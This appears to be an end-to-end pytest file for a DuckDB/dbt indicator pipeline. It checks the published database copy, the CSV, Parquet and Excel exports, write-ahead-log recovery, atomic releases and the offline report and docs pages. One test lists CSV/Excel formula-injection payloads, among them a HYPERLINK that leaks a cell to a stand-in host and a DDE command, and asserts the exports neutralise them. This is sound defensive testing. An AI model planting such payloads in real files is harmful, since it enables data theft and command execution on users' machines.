"""Issue 5: the published read-only copy (and an analyst session that never blocks a refresh), the exports'
round trip, the offline report as published, and dbt's docs page in headless Chromium (the report's browser tests
are in test_report_page.py)."""

import csv
import itertools
import re
import shutil

import duckdb
import pandas as pd
import pytest

from orchestration.cli.browser import Page, find_chromium
from tests.conftest import run_pipeline

pytestmark = pytest.mark.e2e


def _tables(con) -> list[tuple[str, str]]:
    return con.execute("select table_schema, table_name from information_schema.tables "
                       "where table_schema in ('marts', 'analysis') order by 1, 2").fetchall()


def test_published_copy_holds_every_mart_and_analysis_table(built, con):
    published = duckdb.connect(str(built["publish"] / "metric.duckdb"), read_only=True)
    try:
        assert _tables(published) == _tables(con)
        for schema, name in _tables(con):
            query = f'select count(*) from {schema}."{name}"'
            assert published.execute(query).fetchone() == con.execute(query).fetchone(), name
    finally:
        published.close()


def test_exports_round_trip(built, con):
    publish = built["publish"]
    workbook = pd.read_excel(publish / "metric.xlsx", sheet_name=None)
    for schema, name in _tables(con):
        frame = con.execute(f'select * from {schema}."{name}"').fetchdf()
        parquet = pd.read_parquet(publish / "parquet" / f"{name}.parquet")
        csv = pd.read_csv(publish / "csv" / f"{name}.csv", encoding="utf-8", keep_default_na=False)
        assert len(parquet) == len(csv) == len(frame), name
        assert list(parquet.columns) == list(frame.columns) == list(csv.columns), name
        path = publish / "parquet" / f"{name}.parquet"
        for left, right in ((f"read_parquet('{path}')", f'{schema}."{name}"'),
                            (f'{schema}."{name}"', f"read_parquet('{path}')")):
            missing = con.execute(f"select count(*) from (select * from {left} except all select * from {right})")
            assert missing.fetchone()[0] == 0, name  # the same rows, value for value
        for column in ("citation", "series_id", "indicator_id"):
            if column in frame:
                assert csv[column].tolist() == frame[column].fillna("").tolist(), (name, column)
    mart = con.execute("select * from marts.mart_fou").fetchdf()
    sheet = workbook["Forskning och utveckling (FoU)"]
    assert len(sheet) == len(mart) and sheet["citation"].tolist() == mart["citation"].tolist()
    assert sheet["indicator_name_sv"].str.contains("å|ä|ö").any()  # Swedish characters survive
    indicators = workbook["Indikatorer (indicators)"]
    assert len(indicators) == con.execute("select count(*) from marts.dim_indicator").fetchone()[0]
    assert {"definition", "unit", "polarity", "source_id", "citations"} <= set(indicators.columns)
    columns = workbook["Kolumner (data dictionary)"]
    n_columns = con.execute("select count(*) from information_schema.columns "
                            "where table_schema in ('marts', 'analysis')").fetchone()[0]
    assert len(columns) == n_columns
    assert columns.loc[columns["column"] == "citation", "description"].str.len().gt(0).all()


def test_an_open_analyst_session_never_blocks_a_refresh(built, warehouse_copy):
    first, _ = run_pipeline(warehouse_copy, selection="key:publish/database")  # publish a copy to read from
    assert first == 0
    published = warehouse_copy / "publish" / "metric.duckdb"
    analyst = duckdb.connect(str(published), read_only=True)
    try:
        before = analyst.execute("select count(*) from marts.fct_indicator_values").fetchone()[0]
        # a refresh of the warehouse (swapped in) and of the published files while the session stays open
        code, output = run_pipeline(warehouse_copy, selection="key:publish/database or key:publish/exports")
        assert code == 0, output
        assert analyst.execute("select count(*) from marts.fct_indicator_values").fetchone()[0] == before
    finally:
        analyst.close()
    fresh = duckdb.connect(str(published), read_only=True)
    try:
        assert fresh.execute("select count(*) from marts.fct_indicator_values").fetchone()[0] == before
    finally:
        fresh.close()


@pytest.fixture()
def chromium_page(tmp_path):
    if find_chromium() is None:
        pytest.skip("Debian's chromium is not installed (.ci/run installs it): the browser test cannot run here")
    page = Page(tmp_path / "chromium-profile")
    yield page
    page.close()


FORMULAS = ['=HYPERLINK("http://example.invalid/?leak="&A1,"Källa")', "=cmd|' /C calc'!A0", "@SUM(A1)", "+1+1",
            "-2+3", "\tx"]


def test_exports_never_write_a_live_formula(built, tmp_path):
    """An inbox citation like =HYPERLINK(...) or =cmd|... must reach the workbook as text and the CSV with the
    quote OWASP recommends; a publish folder with an apostrophe must not break the SQL that writes the files."""
    import openpyxl

    from orchestration.storage.exports import export_files, export_workbook
    from orchestration.dbt_project import dbt_project

    db = tmp_path / "metric.duckdb"
    shutil.copy2(built["warehouse"], db)
    con = duckdb.connect(str(db))
    try:
        ids = [r[0] for r in con.execute("select distinct indicator_id from marts.mart_fou order by 1 limit ?",
                                         [len(FORMULAS)]).fetchall()]
        for text, indicator in zip(FORMULAS, ids):
            con.execute("update marts.mart_fou set citation = ? where indicator_id = ?", [text, indicator])
        target = tmp_path / "it's published"
        export_files(con, target)
        sheets = export_workbook(con, target / "metric.xlsx", dbt_project.manifest_path)
    finally:
        con.close()
    with (target / "csv" / "mart_fou.csv").open(encoding="utf-8", newline="") as handle:
        citations = [row["citation"] for row in csv.DictReader(handle)]
    for text in FORMULAS:
        assert "'" + text in citations and text not in citations
    assert not any(c[:1] in "=+-@\t\r" for c in citations)
    book = openpyxl.load_workbook(target / "metric.xlsx")
    sheet = book[next(name for name, table in sheets.items() if table == "marts.mart_fou")]
    header = [cell.value for cell in sheet[1]]
    column = header.index("citation") + 1
    cells = [sheet.cell(row=r, column=column) for r in range(2, sheet.max_row + 1)]
    assert {c.value for c in cells} >= set(FORMULAS)
    assert all(c.data_type == "s" for c in cells)  # strings, never formulas


def _foreign_wal(tmp_path) -> bytes:
    """The write-ahead log of another database file, left behind as a crashed writer leaves one."""
    other = tmp_path / "other.duckdb"
    con = duckdb.connect(str(other))
    con.execute("pragma disable_checkpoint_on_shutdown")
    con.execute("create table t as select 1 as x")
    con.close()
    return (tmp_path / "other.duckdb.wal").read_bytes()


def test_a_stale_wal_beside_the_warehouse_or_the_published_copy_heals_on_refresh(warehouse_copy, tmp_path):
    wal = _foreign_wal(tmp_path)
    warehouse = warehouse_copy / "warehouse" / "metric.duckdb"
    (warehouse_copy / "warehouse" / "metric.duckdb.wal").write_bytes(wal)
    code, output = run_pipeline(warehouse_copy, selection="key:raw/ukae or key:publish/database")
    assert code == 0, output
    assert "moved a stale write-ahead log" in output
    assert not (warehouse_copy / "warehouse" / "metric.duckdb.wal").exists()
    assert list((warehouse_copy / "warehouse").glob("metric.duckdb.wal.stale-*"))  # kept aside, not deleted
    published = warehouse_copy / "publish" / "metric.duckdb"
    assert published.stat().st_mode & 0o222 == 0  # read-only by construction
    (warehouse_copy / "publish" / "metric.duckdb.wal").write_bytes(wal)  # an analyst's write left a WAL
    code, output = run_pipeline(warehouse_copy, selection="key:publish/database")
    assert code == 0, output
    con = duckdb.connect(str(published), read_only=True)
    try:
        assert con.execute("select count(*) from marts.fct_indicator_values").fetchone()[0] > 0
    finally:
        con.close()
    con = duckdb.connect(str(warehouse), read_only=True)
    con.close()



def test_a_partial_publish_is_complete_and_a_failed_one_is_never_seen(built, warehouse_copy, monkeypatch):
    from orchestration.storage.publish_folder import RELEASE_FILE, verify_release

    publish = warehouse_copy / "publish"
    shutil.copytree(built["publish"], publish)  # a plain folder (as before releases): made a release on first use
    before = {p.relative_to(publish).as_posix() for p in publish.rglob("*") if p.is_file()}
    code, output = run_pipeline(warehouse_copy, selection="key:publish/report")
    assert code == 0, output
    assert publish.is_symlink() and verify_release(publish) == []
    after = {p.relative_to(publish).as_posix() for p in publish.rglob("*") if p.is_file()}
    assert after - {RELEASE_FILE} == before - {RELEASE_FILE}  # the exports and the database came along

    release, files = publish.resolve(), {p: p.read_bytes() for p in publish.rglob("*.csv")}

    def broken(*args, **kwargs):
        raise RuntimeError("the report failed half-way")

    import analysis.report.page

    monkeypatch.setattr(analysis.report.page, "build_report", broken)  # the report asset imports it when it builds
    # METRIC_RECOMPUTE=1: the report's inputs are unchanged, so it would otherwise be reused, not built
    code, output = run_pipeline(warehouse_copy, selection="key:publish/exports or key:publish/report",
                                METRIC_RECOMPUTE="1")
    assert code == 1 and "the report failed half-way" in output
    assert publish.resolve() == release and verify_release(publish) == []  # the exports it staged are not seen
    assert {p: p.read_bytes() for p in publish.rglob("*.csv")} == files


def test_a_full_refresh_publishes_once(built):
    from orchestration.storage.publish_folder import releases_dir, verify_release

    releases = [p for p in releases_dir(built["publish"]).iterdir() if not p.name.startswith(".")]
    assert len(releases) == 1 and built["publish"].resolve() == releases[0]  # one swap, after the last step
    assert verify_release(built["publish"]) == []


@pytest.mark.parametrize("name", ["report.html", "report_en.html"])
def test_the_report_opens_with_key_findings_and_every_chart_is_a_figure_with_its_data(built, con, name):
    """The page as published (its browser tests are in test_report_page.py): key findings before the dimensions,
    both levels of the index named, and every chart a figure with a caption, a source or its data, and its table."""
    import json

    page = (built["publish"] / name).read_text(encoding="utf-8")
    findings = page[page.index("id='key-findings'"):page.index("id='map'")]
    assert "Övre Norrland" in findings and re.search(r"(plats|rank) \d (av|of) 8", findings)
    assert page.index("id='key-findings'") < page.index('id="dim-')
    assert ("Ingenting är syntetiskt" if name == "report.html" else "Nothing is synthetic") in page
    figures = re.findall(r"<figure class='chart' id='([^']+)' aria-labelledby='\1-t'>(.*?)</figure>", page, re.S)
    assert len(figures) >= 60
    for fid, body in figures:
        assert re.search(rf"<figcaption id='{fid}-t'><span class='chart-title'>[^<]+", body)
        assert "role='img'" not in body and "<details class='chart-data'" in body
        spec = json.loads(re.search(r"<script type='application/json' class='chart-spec'>(.*?)</script>", body,
                                    re.S).group(1))
        assert spec["table"]["columns"] and spec["table"]["rows"], fid  # the chart's data as a table


def test_a_refresh_with_unchanged_inputs_reuses_the_index_the_exports_and_the_report(built, tmp_path):
    """Issue "Operations": a warm refresh does not compute again what its inputs, settings and code already gave:
    the extracts keep their rows, the analysis steps (the index's Monte-Carlo among them) their tables, the exports,
    the report and the database copy stay byte for byte, the great-expectations suite reports its validation of the
    identical table, and the summary says so."""
    root = tmp_path / "again"
    shutil.copytree(built["root"], root, symlinks=True)  # the publish link is relative: it moves with the copy
    before = (root / "publish" / "report.html").read_bytes()
    computed = duckdb.connect(str(root / "warehouse" / "metric.duckdb"), read_only=True)
    stamp = computed.execute("select max(computed_at) from analysis.index_scores").fetchall()
    computed.close()
    code, output = run_pipeline(root)
    assert code == 0, output
    reused = set()  # the summary's "reused" block: a line per layer
    for line in itertools.takewhile(lambda text: text.startswith("    "),
                                    output.split("\n  reused (")[1].splitlines()[1:]):
        layer, names = line.strip().split(": ", 1)
        reused |= {name if layer == "checks" else f"{layer}/{name}" for name in names.split(", ")}
    for key in ("raw/ukae", "analysis/indicator_matrix", "analysis/pca_eigenvalues", "analysis/pca_stability",
                "analysis/index_scores", "publish/exports", "publish/report", "publish/database",
                "marts/fct_indicator_values:gx_fct_indicator_values"):
        assert key in reused, output
    assert "sources: 22 unchanged" in output
    assert (root / "publish" / "report.html").read_bytes() == before
    again = duckdb.connect(str(root / "warehouse" / "metric.duckdb"), read_only=True)
    try:
        assert again.execute("select max(computed_at) from analysis.index_scores").fetchall() == stamp
    finally:
        again.close()


def test_the_dbt_docs_page_opens_offline_and_documents_a_mart_and_its_columns(built, chromium_page):
    """Issue "A front door": dbt's documentation as one offline page, published with every release."""
    page = built["publish"] / "docs.html"
    assert page.exists() and page.stat().st_size > 500_000
    url = page.as_uri() + "#!/model/model.metric.mart_region_comparison"
    chromium_page.open(url, ready="document.readyState === 'complete' && "
                                  "document.body.innerText.includes('mart_region_comparison') && "
                                  "document.body.innerText.includes('percentile')")
    text = chromium_page.evaluate("document.body.innerText")
    assert "Where each region stands" in text  # the model's description from its YAML
    assert "100 = best, 0 = worst among the regions of the same level." in text  # a documented column
    foreign = [u for u in chromium_page.requested_urls() if not u.startswith(("file:", "data:", "about:", "blob:"))]
    assert foreign == []
